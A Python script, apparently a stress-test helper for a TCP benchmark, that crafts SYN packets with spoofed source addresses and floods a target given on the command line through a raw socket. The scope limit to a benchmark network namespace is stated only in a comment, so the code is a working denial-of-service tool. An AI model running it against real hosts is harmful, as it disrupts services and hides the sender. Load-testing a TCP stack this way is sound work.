# A spoofed-source SYN flood for `jtcp bench storm --syn-flood`: runs inside the benchmark's network
# namespace and writes IPv4 SYNs with random sources in 198.18.128.0/17 (never an address of this
# machine's real networks) to DST:PORT through a raw socket, as fast as it can, for SECONDS seconds.
# Prints "FLOOD <packets> <seconds>" at the end.
import random, socket, struct, sys, time

dst, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
dst_b = socket.inet_aton(dst)

def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF

rng = random.Random(1)
packets = []
for i in range(8192):
    src_b = struct.pack("!BBBB", 198, 18, 128 + rng.randrange(128), rng.randrange(1, 255))
    sport = rng.randrange(1024, 65535)
    seq = rng.getrandbits(32)
    opts = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, (6 << 4), 0x02, 65535, 0, 0) + opts
    pseudo = src_b + dst_b + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    total = 20 + len(tcp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, i & 0xFFFF, 0, 64, 6, 0, src_b, dst_b)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    packets.append(ip + tcp)

s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
target = (dst, 0)
sent = 0
start = time.monotonic()
end = start + seconds
n = len(packets)
while True:
    for k in range(1024):
        try:
            s.sendto(packets[(sent + k) % n], target)
        except OSError:
            pass
    sent += 1024
    if time.monotonic() >= end:
        break
print("FLOOD %d %.3f" % (sent, time.monotonic() - start), flush=True)
